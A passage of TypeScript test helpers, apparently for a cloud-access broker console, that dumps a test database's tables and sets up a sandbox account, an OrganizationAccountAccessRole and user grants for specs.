    const tables = await client.query<{ table_name: string }>("select table_name from information_schema.tables where table_schema = 'public'");
    const parts: string[] = [];
    for (const { table_name } of tables.rows) {
      const rows = await client.query(`select * from "${table_name}"`);
      parts.push(`${table_name}\n${JSON.stringify(rows.rows)}`);
    }
    return parts.join("\n");
  } finally {
    await client.end();
  }
}

// ---- A role to switch into ------------------------------------------------------------------

/** A sandbox account of the spec's own (so specs never share registry entries), registered in
 * the console with its OrganizationAccountAccessRole (which trusts the broker's account), and
 * granted to `grantees`. */
export async function switchableRole(admin: Client, sandboxApi: SandboxClient, accountId: string, name: string, grantees: string[]): Promise<{ accountRef: string; roleId: string; roleArn: string }> {
  await sandboxApi.addAccount(accountId, name);
  // Idempotent: a retried worker runs its beforeAll again against the same console.
  const account = await admin.post("/api/v1/accounts", { json: { accountId, name } });
  if (account.status !== 201 && account.status !== 409) throw new Error(`Registering ${accountId}: ${account.status} ${account.text.slice(0, 300)}`);
  const accountRef = account.status === 201 ? account.json<{ account: { id: string } }>().account.id : (await admin.get(`/api/v1/accounts/${accountId}`)).json<{ account: { id: string } }>().account.id;
  // No SourceIdentity: these specs test the console's own checks, not what the role's trust allows.
  const role = await admin.post("/api/v1/roles", { json: { accountId, roleName: "OrganizationAccountAccessRole", displayName: `${name} admin`, sourceIdentity: false } });
  let registered: { id: string; roleArn: string };
  if (role.status === 201) registered = role.json<{ role: { id: string; roleArn: string } }>().role;
  else if (role.status === 409) {
    const existing = (await admin.get(`/api/v1/roles?accountId=${accountId}`)).json<{ roles: Array<{ id: string; roleArn: string; roleName: string }> }>().roles;
    registered = existing.find((r) => r.roleName === "OrganizationAccountAccessRole")!;
  } else throw new Error(`Registering the role in ${accountId}: ${role.status} ${role.text.slice(0, 300)}`);
  const { id: roleId, roleArn } = registered;
  for (const userEmail of grantees) {
    const grant = await admin.post("/api/v1/grants", { json: { roleId, userEmail } });
    if (grant.status !== 201) throw new Error(`Granting ${roleArn} to ${userEmail}: ${grant.status} ${grant.text.slice(0, 300)}`);
  }
  return { accountRef, roleId, roleArn };
}
